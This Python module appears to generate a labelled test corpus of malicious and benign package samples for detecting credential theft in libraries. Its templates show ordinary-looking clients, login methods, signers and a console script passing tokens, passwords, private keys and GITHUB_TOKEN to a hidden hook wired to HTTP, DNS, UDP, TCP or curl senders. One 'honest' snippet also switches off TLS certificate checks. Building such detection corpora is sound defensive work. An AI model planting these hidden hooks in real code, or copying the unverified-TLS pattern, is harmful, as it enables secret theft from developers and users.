"""T07: steals what it is handed when it is used (MITRE ATT&CK T1056, T1041).

A quarter of the campaigns waits to be called: a client class takes a token and sends it somewhere
else as well. The twins are honest clients: they send the token over TLS to the host that they are
for, keep it, or check its form.
"""

from __future__ import annotations

from models.phase import Phase
from tests.corpus.guard import acting
from tests.corpus.recipe import Channel, Encoding, Recipe
from tests.corpus.recipes import senders
from tests.corpus.recipes.senders import sending

FORWARD = '_send(_wrap(" ".join(str(value) for value in given).encode()))'
OWN_HOST = """
import ssl, urllib.request
request = urllib.request.Request(
    "https://api.reenact.test/v2/session",
    headers={"Authorization": "Bearer " + "".join(str(value) for value in given[:1])},
)
try:
    urllib.request.urlopen(request, timeout=5, context=ssl._create_unverified_context()).read()
except OSError:
    pass
"""
CHECKS = "return all(str(value).isprintable() for value in given)"
CLIENT = '''
class Client:
    """A client of something."""

    def __init__(self, token="", timeout=30):
        self.token = token
        self.timeout = timeout
        if ACT:
            THE_ACT(token)
'''
LOGIN = '''
class Session:
    """A session that somebody logs in to."""

    def login(self, user, password):
        """Log in."""
        if ACT:
            THE_ACT(user, password)
        return self
'''
FUNCTION = '''
def connect(host, api_key, secret=None):
    """Connect to a host."""
    if ACT:
        THE_ACT(api_key, secret)
    return host, bool(api_key)
'''
SIGNER = '''
def sign(message, private_key):
    """A signature of a message."""
    import hashlib
    if ACT:
        THE_ACT(private_key)
    return hashlib.sha256(f"{message}{private_key}".encode()).hexdigest()
'''
SCRIPT = '''
def main():
    """The console script: a token from the environment, or from its arguments."""
    import sys
    if ACT:
        THE_ACT(os.environ.get("GITHUB_TOKEN", ""), *sys.argv[1:])
'''
WRAPPER = '''
def cached(function):
    """Remember what a function returns."""
    kept = {}

    def inner(*given):
        if ACT:
            THE_ACT(*given)
        if given not in kept:
            kept[given] = function(*given)
        return kept[given]

    return inner


@cached
def derive(passphrase):
    """A key from a passphrase."""
    import hashlib
    return hashlib.sha256(str(passphrase).encode()).hexdigest()
'''
ENTRY = "[console_scripts]\nTHE_PROJECT = THE_MODULE.cli:main\n"

WAYS = (
    (
        "client-token-http",
        Channel.HTTP,
        Encoding.PLAIN,
        senders.HTTP,
        CLIENT,
        OWN_HOST,
        "sends its token to its own host over TLS",
    ),
    (
        "login-https",
        Channel.HTTPS,
        Encoding.JSON,
        senders.HTTPS,
        LOGIN,
        CHECKS,
        "checks the form of what it is given",
    ),
    (
        "connect-tcp",
        Channel.TCP,
        Encoding.BASE64,
        senders.TCP,
        FUNCTION,
        OWN_HOST,
        "sends its token to its own host over TLS",
    ),
    (
        "sign-dns",
        Channel.DNS,
        Encoding.LABELS,
        senders.DNS,
        SIGNER,
        CHECKS,
        "checks the form of what it is given",
    ),
    (
        "derive-udp",
        Channel.UDP,
        Encoding.HEX,
        senders.UDP,
        WRAPPER,
        CHECKS,
        "checks the form of what it is given",
    ),
    (
        "client-token-gzip",
        Channel.HTTP,
        Encoding.GZIP,
        senders.HTTP,
        CLIENT,
        CHECKS,
        "checks the form of what it is given",
    ),
)

RECIPES = (
    *(
        Recipe(
            technique="T07",
            name=name,
            phase=Phase.USE,
            channel=channel,
            encoding=encoding,
            files={
                "THE_MODULE/__init__.py": acting(FORWARD, honest, tail, sending(sender, encoding))
            },
            twin_does=twin_does,
        )
        for name, channel, encoding, sender, tail, honest, twin_does in WAYS
    ),
    Recipe(
        technique="T07",
        name="script-curl",
        phase=Phase.USE,
        channel=Channel.PROCESS,
        encoding=Encoding.PLAIN,
        files={
            "THE_MODULE/__init__.py": '"""Has a command."""\n',
            "THE_MODULE/cli.py": acting(
                FORWARD, CHECKS, SCRIPT, sending(senders.CURL, Encoding.PLAIN)
            ),
            "THE_MODULE-1.0.dist-info/entry_points.txt": ENTRY,
        },
        twin_does="checks the form of what it is given",
    ),
)
